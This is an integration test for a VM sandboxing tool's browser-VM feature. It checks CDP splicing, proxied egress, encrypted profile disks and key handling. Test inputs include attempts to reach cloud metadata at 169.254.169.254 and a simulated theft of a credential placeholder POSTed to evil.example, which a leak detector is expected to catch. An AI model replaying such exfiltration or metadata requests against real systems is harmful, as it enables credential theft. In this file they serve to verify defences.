// The browser VM's host side in real VMs (issue #18), under TCG with the test image and the real
// `cloister` binary: one workspace boot and two browser VM boots. Until the browser image (bimage)
// lands, the browser VM is the test image with a fake `chromium` (a Node script put at
// /usr/local/bin/chromium through CLOISTER_BROWSER_FILES and started by the agent's browser role): it
// serves /json/version and a WebSocket echo on 127.0.0.1:9222, and /fetch?url=..., which makes
// an HTTPS request from the browser VM the way a page load would (transparent egress: Node is
// told about no proxy). Upstreams are local fakes reached through CLOISTER_PROXY_RESOLVE
// (resolve-only: nothing leaves 127.0.0.1).
//   - before `browser start`, the workspace guest's 127.0.0.1:9222 answers nothing;
//   - `browser ws start` boots it in <store>/tmp/browser-ws-XXXXXX/; `ls`/`describe` show it; a
//     second start is refused (one per workspace);
//   - from the workspace guest: /json/version and a WebSocket echo through the host's splice;
//     a page from the fake HTTPS upstream (its title) loaded by the browser VM, traced with
//     "source":"browser"; 169.254.169.254 and the host's user-net address fail;
//   - `browser ws stop`: the directory is gone and its QEMU too; the next start has no cookie
//     from the first session;
//   - `browser ws start --keep-profile`: the encrypted disk is made in the workspace directory,
//     its key in neither QEMU's argv, environment nor a file; the guest has it mounted ext4
//     nosuid,nodev,noexec at /var/lib/cloister-browser; a cookie written there survives
//     stop/start (and is not plaintext on the host); a LUKS disk of another key fails the start
//     with no browser VM left; `browser ws forget` drops disk and key;
//   - the automatic start: with `config ws --browser-autostart` off a CDP connection is closed
//     and starts nothing; on, the first one starts the browser VM and is answered;
//   - a placeholder of the workspace's credential submitted from the browser VM to a foreign host
//     trips the detector: the workspace is marked compromised and paused, its browser VM gone.
#include <signal.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iostream>

#include <nlohmann/json.hpp>

#include "base/strings.h"
#include "base/subprocess.h"
#include "browser/profile_disk.h"
#include "proxy/ca.h"
#include "proxy/fake_upstream.h"
#include "supervisor/state.h"
#include "supervisor/testing.h"
#include "supervisor/workspace.h"
#include "store/layout.h"
#include "vault/crypto.h"
#include "vault/vault.h"

namespace cloister::vm {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using Clock = std::chrono::steady_clock;

const std::string kReal =
    "sk-ant-api03-REALxKEYxBROWSERxTESTx0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUV-_AA";

// The fake Chromium (runs in the browser VM as dev, started by the guest agent's browser role
// with Chromium's flags, which it ignores; guest/browser.h). The shebang matters: the agent
// execs `chromium` from PATH.
const char kFakeChromium[] = R"JS(#!/usr/bin/node
const http = require('http'), https = require('https'), crypto = require('crypto'), fs = require('fs');
const dir = (process.env.HOME || '/home/dev') + '/.fake-chromium';
fs.mkdirSync(dir, {recursive: true});
const cookies = dir + '/Cookies';
const hadCookie = fs.existsSync(cookies);
const srv = http.createServer((req, res) => {
  if (req.url === '/json/version') {
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({Browser: 'FakeChromium/1.0', had_cookie: hadCookie,
                            webSocketDebuggerUrl: 'ws://127.0.0.1:9222/devtools/browser/fake'}));
    return;
  }
  if (req.url === '/mounts') {
    res.end(fs.readFileSync('/proc/self/mounts', 'utf8'));
    return;
  }
  if (req.url.startsWith('/fetch?')) {
    const q = new URL(req.url, 'http://x').searchParams;
    const body = q.get('body');
    const url = q.get('url');
    const r = (url.startsWith('http:') ? http : https).request(url, {method: body ? 'POST' : 'GET', timeout: 60000,
        headers: body ? {'content-type': 'application/x-www-form-urlencoded'} : {}}, (up) => {
      let d = '';
      if (up.headers['set-cookie']) fs.writeFileSync(cookies, String(up.headers['set-cookie']));
      up.on('data', (c) => d += c);
      up.on('end', () => res.end('status=' + up.statusCode + '\n' + d));
    });
    r.on('timeout', () => r.destroy(new Error('timeout')));
    r.on('error', (e) => res.end('error=' + e.message));
    if (body) r.write(body);
    r.end();
    return;
  }
  res.statusCode = 404;
  res.end('no');
});
srv.on('upgrade', (req, sock) => {
  const acc = crypto.createHash('sha1')
      .update(req.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
  sock.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
             'Sec-WebSocket-Accept: ' + acc + '\r\n\r\n');
  let b = Buffer.alloc(0);
  sock.on('data', (d) => {
    b = Buffer.concat([b, d]);
    while (b.length >= 6) {
      const n = b[1] & 0x7f;
      if (n > 125 || b.length < 6 + n) break;
      const m = b.slice(2, 6), o = Buffer.alloc(2 + n);
      o[0] = 0x81; o[1] = n;
      for (let k = 0; k < n; k++) o[2 + k] = b[6 + k] ^ m[k % 4];
      b = b.slice(6 + n);
      sock.write(o);
    }
  });
  sock.on('error', () => {});
});
srv.listen(9222, '127.0.0.1');
)JS";

// In the workspace guest: GET http://127.0.0.1:9222<path> -> "HTTP <status> <body>" or "ERR ...".
const char kGet[] = R"JS(
const http = require('http');
const req = http.get({host: '127.0.0.1', port: 9222, path: process.argv[1], timeout: 150000}, (r) => {
  let d = ''; r.on('data', (c) => d += c); r.on('end', () => console.log('HTTP ' + r.statusCode + ' ' + d));
});
req.on('timeout', () => req.destroy(new Error('timeout')));
req.on('error', (e) => console.log('ERR ' + e.message));
)JS";

// In the workspace guest: a WebSocket handshake and one masked text frame; prints the echo.
const char kWs[] = R"JS(
const net = require('net'), crypto = require('crypto');
const s = net.connect(9222, '127.0.0.1', () => s.write('GET /devtools/browser/fake HTTP/1.1\r\n' +
    'Host: 127.0.0.1:9222\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ' +
    crypto.randomBytes(16).toString('base64') + '\r\nSec-WebSocket-Version: 13\r\n\r\n'));
let buf = Buffer.alloc(0), up = false;
s.setTimeout(60000, () => { console.log('ERR timeout'); s.destroy(); });
s.on('data', (d) => {
  buf = Buffer.concat([buf, d]);
  if (!up) {
    const i = buf.indexOf('\r\n\r\n');
    if (i < 0) return;
    console.log(buf.slice(0, i).toString().split('\r\n')[0]);
    up = true; buf = buf.slice(i + 4);
    const msg = Buffer.from('hello-cdp'), mask = crypto.randomBytes(4), f = Buffer.alloc(6 + msg.length);
    f[0] = 0x81; f[1] = 0x80 | msg.length; mask.copy(f, 2);
    for (let k = 0; k < msg.length; k++) f[6 + k] = msg[k] ^ mask[k % 4];
    s.write(f);
  }
  if (up && buf.length >= 2 && buf.length >= 2 + (buf[1] & 0x7f)) {
    console.log('ECHO ' + buf.slice(2, 2 + (buf[1] & 0x7f)).toString());
    s.end();
  }
});
s.on('error', (e) => console.log('ERR ' + e.message));
)JS";

class BrowserVmVmTest : public testing::CliVmTest {
 protected:
  // GET through the workspace guest's CDP endpoint.
  std::string Get(const std::string& path) {
    int code = -1;
    std::string out = Exec("ws", "node -e \"$0\" -- \"$1\" 2>&1", &code, "dev", {kGet, path});
    return Trim(out);
  }
  // The fake's /json/version, retried (bounded) while the browser VM's agent is starting it.
  std::string VersionWhenUp() {
    std::string got;
    testing::WaitFor([&] {
      got = Get("/json/version");
      return got.find("FakeChromium") != std::string::npos;
    }, std::chrono::seconds(240));
    return got;
  }
  json BrowserStatus() {
    auto r = Cloister({"browser", "ws", "status", "--json"});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    json j = json::parse(r.out, nullptr, false);
    return j.is_object() ? j.value("browser", json::object()) : json::object();
  }
  std::vector<std::string> BrowserDirs() {
    std::vector<std::string> out;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(root_ + "/tmp", ec)) {
      if (e.path().filename().string().rfind("browser-", 0) == 0) out.push_back(e.path().string());
    }
    return out;
  }
  std::vector<json> BrowserTrace() {
    std::vector<json> out;
    std::ifstream f(store_->Paths("ws").trace_log);
    std::string line;
    while (std::getline(f, line)) {
      json j = json::parse(line, nullptr, false);
      if (j.is_object() && j.value("source", "") == "browser") out.push_back(j);
    }
    return out;
  }
  RunOutput StartBrowser(const std::vector<std::string>& more = {}) {
    std::vector<std::string> args = {"browser", "ws", "start", "--image", image_dir() + "/disk.raw",
                                     "--memory", "384", "--cpus", "1", "--json"};
    args.insert(args.end(), more.begin(), more.end());
    return Cloister(args);
  }
  // The browser VM's mount line for the profile ("" if none), as its fake chromium reads it.
  std::string ProfileMountLine() {
    std::string mounts = Get("/mounts");
    for (const std::string& line : Split(mounts, '\n')) {
      if (line.find(" /var/lib/cloister-browser ") != std::string::npos) return line;
    }
    return "";
  }
  // SECURITY check: no form of the profile key in the browser VM QEMU's argv or environment or
  // in any file of its directory (the key goes over QMP only).
  void ExpectProfileKeyOnlyOverQmp(pid_t qemu, const std::string& dir) {
    setenv("CLOISTER_VAULT_KEY_BACKEND", "file", 1);
    browser::ProfileLocation loc{root_ + "/" + std::string(layout::kKeysDir),
                                 store_->Paths("ws").dir, "ws"};
    auto v = vault::Vault::Open({loc.keys_dir, loc.SecretsPath(), loc.workspace});
    ASSERT_TRUE(v.ok()) << v.error().ToString();
    const std::string* key = v->FindBlob(browser::kProfileKeyBlob);
    ASSERT_NE(key, nullptr);
    ASSERT_EQ(key->size(), browser::kProfileKeyBytes);
    std::string pass = vault::Base64Encode(*key);
    std::vector<std::string> forms = {*key, pass, vault::Base64Encode(pass)};
    std::string cmdline = testing::Slurp("/proc/" + std::to_string(qemu) + "/cmdline");
    std::string environ = testing::Slurp("/proc/" + std::to_string(qemu) + "/environ");
    ASSERT_NE(cmdline.find("qemu-system"), std::string::npos) << "not the browser VM's QEMU";
    for (const std::string& f : forms) {
      EXPECT_EQ(cmdline.find(f), std::string::npos) << "the profile key is in QEMU's argv";
      EXPECT_EQ(environ.find(f), std::string::npos) << "the profile key is in QEMU's environment";
      for (const auto& e : fs::recursive_directory_iterator(dir)) {
        if (!e.is_regular_file() || e.path().filename() == "disk.qcow2") continue;
        EXPECT_EQ(testing::Slurp(e.path()).find(f), std::string::npos) << "key in " << e.path();
      }
    }
  }
};

TEST_F(BrowserVmVmTest, DrivenOverCdpFromTheWorkspaceEgressThroughItsProxyGoneAtStop) {
  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
  ASSERT_TRUE(upstream_ca.ok());
  std::string ca_file = root_ + "/upstream-ca.pem";
  std::ofstream(ca_file) << (*upstream_ca)->cert_pem();
  auto fake = proxy::testing::FakeUpstream::Start(
      *upstream_ca, [](const proxy::testing::SeenRequest& r, proxy::testing::ResponseWriter& w) {
        if (r.sni == "shop.example") {
          w.Send(200, {{"Content-Type", "text/html"}, {"Set-Cookie", "session=first-visit-7f3a"}},
                 "<html><head><title>Fake Shop</title></head><body>hello</body></html>");
          return;
        }
        w.Send(200, {{"Content-Type", "text/plain"}}, "form received\n");
      });
  ASSERT_TRUE(fake.ok());
  const std::string addr = (*fake)->Address();
  json files = json::array({{{"path", "/usr/local/bin/chromium"}, {"content", kFakeChromium},
                             {"mode", 0755}, {"owner", "root"}}});
  std::string files_path = root_ + "/browser-files.json";
  std::ofstream(files_path) << files.dump();
  env_ = {{"CLOISTER_PROXY_RESOLVE", "shop.example:443=" + addr + ",evil.example:443=" + addr},
          {"CLOISTER_PROXY_UPSTREAM_CA", ca_file},
          {"CLOISTER_VAULT_KEY_BACKEND", "file"},
          {"CLOISTER_BROWSER_FILES", files_path},
          {"CLOISTER_BROWSER_IMAGE", image_dir() + "/disk.raw"}};

  auto created = Cloister({"create", "ws", "--image", image_dir() + "/disk.raw", "--memory", "384",
                           "--cpus", "1", "--home-size", "256M"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  ASSERT_EQ(Cloister({"cred", "add", "ws", "anthropic"}, kReal + "\n").exit_code, 0);
  // Not running: a start is the table's refusal with its fix.
  auto early = StartBrowser();
  EXPECT_NE(early.exit_code, 0);
  EXPECT_NE(early.err.find("cloister start ws"), std::string::npos) << early.err;
  ASSERT_NO_FATAL_FAILURE(Start("ws"));
  EXPECT_EQ(BrowserStatus().value("state", ""), "stopped");

  // No browser VM: the guest's DevTools endpoint answers nothing.
  std::string none = Get("/json/version");
  EXPECT_EQ(none.find("FakeChromium"), std::string::npos) << none;
  EXPECT_NE(none.find("ERR"), std::string::npos) << none;

  // 1. Start: its directory under <store>/tmp, its QEMU, ls/describe.
  Clock::time_point t0 = Clock::now();
  auto started = StartBrowser();
  ASSERT_EQ(started.exit_code, 0) << started.err;
  json b = json::parse(started.out, nullptr, false).value("browser", json::object());
  ASSERT_EQ(b.value("state", ""), "running") << started.out;
  pid_t qemu = b.value("qemu_pid", 0);
  ASSERT_GT(qemu, 0);
  std::string dir = b.value("dir", "");
  EXPECT_EQ(dir.rfind(root_ + "/tmp/browser-ws-", 0), 0u) << dir;
  EXPECT_TRUE(fs::exists(dir + "/disk.qcow2"));
  EXPECT_EQ(BrowserDirs().size(), 1u);
  EXPECT_EQ(b.value("memory_mib", 0), 384);
  auto ls = Cloister({"ls", "--json"});
  json ls_j = json::parse(ls.out, nullptr, false);
  ASSERT_TRUE(ls_j.is_array() && ls_j.size() == 1u) << ls.out;
  EXPECT_EQ(ls_j[0].value("browser", ""), "running") << ls.out;
  auto describe = Cloister({"describe", "ws"});
  EXPECT_NE(describe.out.find("Browser:     running"), std::string::npos) << describe.out;
  auto twice = StartBrowser();
  EXPECT_NE(twice.exit_code, 0);
  EXPECT_NE(twice.err.find("already running"), std::string::npos) << twice.err;

  // 2. CDP from the workspace guest, through the host's splice.
  std::string version = VersionWhenUp();
  std::cerr << "[browser: start to first CDP answer "
            << std::chrono::duration_cast<std::chrono::seconds>(Clock::now() - t0).count()
            << " s]\n";
  ASSERT_NE(version.find("FakeChromium/1.0"), std::string::npos) << version;
  EXPECT_NE(version.find("\"had_cookie\":false"), std::string::npos) << version;
  int code = -1;
  std::string ws = Exec("ws", "node -e \"$0\" 2>&1", &code, "dev", {kWs});
  EXPECT_NE(ws.find("101 Switching Protocols"), std::string::npos) << ws;
  EXPECT_NE(ws.find("ECHO hello-cdp"), std::string::npos) << ws;

  // 3. The browser VM's egress: the workspace's proxy, traced as the browser's.
  std::string page = Get("/fetch?url=https://shop.example/page");
  EXPECT_NE(page.find("status=200"), std::string::npos) << page;
  EXPECT_NE(page.find("<title>Fake Shop</title>"), std::string::npos) << page;
  bool traced = false;
  for (const json& r : BrowserTrace()) {
    traced |= r.value("host", "") == "shop.example" && r.value("path", "") == "/page";
  }
  EXPECT_TRUE(traced) << testing::Slurp(store_->Paths("ws").trace_log);
  // Neither cloud metadata nor the host's user-net address.
  for (const char* url : {"https://169.254.169.254/latest/meta-data/", "https://10.0.2.2/",
                          "http://169.254.169.254/latest/meta-data/"}) {
    std::string got = Get(std::string("/fetch?url=") + url);
    EXPECT_EQ(got.find("status=200"), std::string::npos) << url << ": " << got;
    EXPECT_NE(got.find("HTTP 200"), std::string::npos) << url << ": " << got;  // the fake answered
  }

  // 4. Stop: the directory and its QEMU are gone; the next start has no cookie of the first.
  auto stopped = Cloister({"browser", "ws", "stop"});
  ASSERT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_FALSE(fs::exists(dir));
  EXPECT_TRUE(BrowserDirs().empty());
  EXPECT_FALSE(fs::exists("/proc/" + std::to_string(qemu)));
  EXPECT_EQ(BrowserStatus().value("state", ""), "stopped");
  auto again = StartBrowser();
  ASSERT_EQ(again.exit_code, 0) << again.err;
  std::string second = VersionWhenUp();
  EXPECT_NE(second.find("\"had_cookie\":false"), std::string::npos) << second;
  std::string dir2 = json::parse(again.out, nullptr, false)["browser"].value("dir", "");
  EXPECT_NE(dir2, dir);
  EXPECT_FALSE(json::parse(again.out, nullptr, false)["browser"].value("keep_profile", true));
  EXPECT_NE(ProfileMountLine().find(" tmpfs "), std::string::npos);

  // 4b. --keep-profile: the encrypted disk is made, attached (key over QMP only) and mounted at
  // /var/lib/cloister-browser; what the browser writes there survives stop/start; forget drops it.
  Clock::time_point t_added = Clock::now();  // steps 4b and 4c: their cost in the suite
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  const std::string profile_disk = store_->Paths("ws").dir + "/browser-profile.qcow2";
  EXPECT_FALSE(fs::exists(profile_disk));
  auto kept = StartBrowser({"--keep-profile"});
  ASSERT_EQ(kept.exit_code, 0) << kept.err;
  json kb = json::parse(kept.out, nullptr, false).value("browser", json::object());
  EXPECT_TRUE(kb.value("keep_profile", false)) << kept.out;
  EXPECT_TRUE(fs::exists(profile_disk));
  ExpectProfileKeyOnlyOverQmp(kb.value("qemu_pid", 0), kb.value("dir", ""));
  auto kept_ls = Cloister({"ls", "--json"});
  json kept_ls_j = json::parse(kept_ls.out, nullptr, false);
  ASSERT_TRUE(kept_ls_j.is_array() && kept_ls_j.size() == 1u) << kept_ls.out;
  EXPECT_TRUE(kept_ls_j[0].value("browser_keep_profile", false)) << kept_ls.out;
  EXPECT_NE(Cloister({"describe", "ws"}).out.find("kept profile"), std::string::npos);
  EXPECT_NE(Cloister({"browser", "ws", "status"}).out.find("kept profile"), std::string::npos);
  std::string first_kept = VersionWhenUp();
  EXPECT_NE(first_kept.find("\"had_cookie\":false"), std::string::npos) << first_kept;
  std::string mount = ProfileMountLine();
  EXPECT_NE(mount.find(" ext4 "), std::string::npos) << mount;
  for (const char* opt : {"nosuid", "nodev", "noexec"}) {
    EXPECT_NE(mount.find(opt), std::string::npos) << opt << " missing: " << mount;
  }
  std::string kept_page = Get("/fetch?url=https://shop.example/page");  // sets the cookie
  EXPECT_NE(kept_page.find("status=200"), std::string::npos) << kept_page;
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  EXPECT_TRUE(fs::exists(profile_disk));
  EXPECT_EQ(testing::Slurp(profile_disk).find("first-visit-7f3a"), std::string::npos)
      << "the cookie's value is in plaintext on the host";
  auto kept2 = StartBrowser({"--keep-profile"});
  ASSERT_EQ(kept2.exit_code, 0) << kept2.err;
  std::string second_kept = VersionWhenUp();
  EXPECT_NE(second_kept.find("\"had_cookie\":true"), std::string::npos) << second_kept;
  // forget is refused while the browser VM runs; then drops the disk and its key.
  EXPECT_NE(Cloister({"browser", "ws", "forget", "-f"}).exit_code, 0);
  ASSERT_EQ(Cloister({"browser", "ws", "stop"}).exit_code, 0);
  // SECURITY: fail closed. A LUKS disk the vault's key does not open fails the start; no browser
  // VM is left (none with a tmpfs profile either).
  fs::rename(profile_disk, profile_disk + ".mine");
  Result<RunOutput> made = Error(ErrorCode::kInternal, "not run");
  for (int i = 0; i < 8; ++i) {  // qemu-img's PBKDF2 timing fails at random on a loaded host
    made = RunProcessChecked({"qemu-img", "create", "-q", "-f", "qcow2", "--object",
                              "secret,id=s0,data=not-the-vault-key", "-o",
                              "encrypt.format=luks,encrypt.key-secret=s0,encrypt.iter-time=10",
                              profile_disk, "64M"});
    if (made.ok()) break;
    fs::remove(profile_disk);
  }
  ASSERT_TRUE(made.ok()) << made.error().ToString();
  auto foreign = StartBrowser({"--keep-profile"});
  EXPECT_NE(foreign.exit_code, 0) << foreign.out;
  EXPECT_NE(foreign.err.find("does not open"), std::string::npos) << foreign.err;
  EXPECT_EQ(BrowserStatus().value("state", ""), "stopped");
  EXPECT_TRUE(BrowserDirs().empty());
  fs::remove(profile_disk);
  fs::rename(profile_disk + ".mine", profile_disk);
  auto forgot = Cloister({"browser", "ws", "forget", "-f", "--json"});
  ASSERT_EQ(forgot.exit_code, 0) << forgot.err;
  EXPECT_TRUE(json::parse(forgot.out, nullptr, false).value("forgotten", false)) << forgot.out;
  EXPECT_FALSE(fs::exists(profile_disk));
  {
    browser::ProfileLocation loc{root_ + "/" + std::string(layout::kKeysDir),
                                 store_->Paths("ws").dir, "ws"};
    auto exists = browser::ProfileExists(loc);
    ASSERT_TRUE(exists.ok()) << exists.error().ToString();
    EXPECT_FALSE(*exists) << "the key outlived forget";
  }

  // 4c. The automatic start: off, a CDP connection is closed and starts nothing; on, the first
  // one starts the browser VM and is answered once it is ready.
  std::string off = Get("/json/version");
  EXPECT_NE(off.find("ERR"), std::string::npos) << off;
  EXPECT_EQ(BrowserStatus().value("state", ""), "stopped");
  EXPECT_EQ(BrowserStatus().value("autostarts", -1), 0);
  auto on = Cloister({"config", "ws", "--browser-autostart", "on"});
  ASSERT_EQ(on.exit_code, 0) << on.err;
  Clock::time_point t_auto = Clock::now();
  std::string autostarted = Get("/json/version");  // held until the browser VM is READY
  std::cerr << "[browser: autostart to the first CDP answer "
            << std::chrono::duration_cast<std::chrono::seconds>(Clock::now() - t_auto).count()
            << " s]\n";
  EXPECT_NE(autostarted.find("FakeChromium/1.0"), std::string::npos)
      << autostarted << "\n" << Cloister({"logs", "ws", "--supervisor"}).out;
  json ab = BrowserStatus();
  EXPECT_EQ(ab.value("state", ""), "running") << ab.dump();
  EXPECT_EQ(ab.value("autostarts", 0), 1) << ab.dump();
  EXPECT_EQ(BrowserDirs().size(), 1u);
  ASSERT_EQ(Cloister({"config", "ws", "--browser-autostart", "off"}).exit_code, 0);
  std::cerr << "[browser: kept profile and autostart steps "
            << std::chrono::duration_cast<std::chrono::seconds>(Clock::now() - t_added).count()
            << " s]\n";

  // 5. A placeholder submitted from the browser to a foreign host trips the detector.
  std::string placeholder = Trim(Exec("ws", ". /etc/profile.d/cloister.sh; printf %s \"$ANTHROPIC_API_KEY\""));
  ASSERT_FALSE(placeholder.empty());
  ASSERT_EQ(placeholder.find(kReal), std::string::npos);
  std::string leak = Get("/fetch?url=https://evil.example/form&body=key%3D" + placeholder);
  EXPECT_EQ(leak.find("form received"), std::string::npos) << leak;
  EXPECT_TRUE(testing::WaitFor([&] {
    auto d = Cloister({"describe", "ws", "--json"});
    json j = json::parse(d.out, nullptr, false);
    return j.is_object() && j.value("compromised", false);
  }, std::chrono::seconds(60)));
  EXPECT_TRUE(testing::WaitFor([&] { return BrowserDirs().empty(); }, std::chrono::seconds(60)));
  for (const auto& r : (*fake)->requests()) {
    EXPECT_EQ(r.body.find(placeholder), std::string::npos) << "the placeholder reached " << r.sni;
    EXPECT_EQ(r.body.find(kReal), std::string::npos) << "the real key reached " << r.sni;
  }
  auto stop = Cloister({"stop", "ws", "--force"});
  EXPECT_EQ(stop.exit_code, 0) << stop.err;
  EXPECT_TRUE(BrowserDirs().empty());
}

}  // namespace
}  // namespace cloister::vm
